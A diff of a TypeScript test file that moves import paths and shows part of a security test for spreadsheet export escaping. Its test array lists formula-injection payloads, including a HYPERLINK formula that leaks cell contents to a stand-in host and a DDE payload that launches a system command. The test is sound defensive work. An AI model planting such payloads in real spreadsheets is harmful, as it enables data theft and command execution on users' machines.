@@ -4,7 +4,7 @@ import { and, count, eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ImportReport } from '../../../src/shared/generated/import-report';
 import type { RecordView } from '../../../src/shared/generated/record-view';
-import { demoIdNumber } from '../../../src/server/demo/demo-credit-rows';
+import { demoIdNumber } from '../../../src/server/seed/demo-credit-rows';
 import { auditLog, recordEvents, records } from '../../../src/server/db/schema';
 import { multipartBody } from '../helpers/activity-fixtures';
 import { creditWorkbook, CREDIT_HEADINGS, plantErrors } from '../helpers/credit-workbook';
@@ -204,8 +204,8 @@ describe('export (SECURITY R24)', () => {
   it('escapes every cell that could start a formula and writes it as text, never as a formula', async () => {
     const response = await t.app.inject({ method: 'POST', url: '/api/resources/audit-log/lists/credit-log/export', headers: officer.auth, payload: {} });
     expect(response.statusCode).toBe(200);
-    const { escapeFormula } = await import('../../../src/server/modules/excel/escape-formula');
-    const { writeWorkbook } = await import('../../../src/server/modules/excel/write-workbook');
+    const { escapeFormula } = await import('../../../src/server/services/excel/escape-formula');
+    const { writeWorkbook } = await import('../../../src/server/services/excel/write-workbook');
     const hostile = ['=HYPERLINK("http://x?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1', '\u0000=1', "=cmd|' /C calc'!A0"];
     const sheet = (await readWorkbook(await writeWorkbook([{ name: 'x', columns: [{ title: 'text' }, { title: 'amount' }], rows: hostile.map((text) => [text, -5]) }]))).worksheets[0]!;
     hostile.forEach((text, index) => {
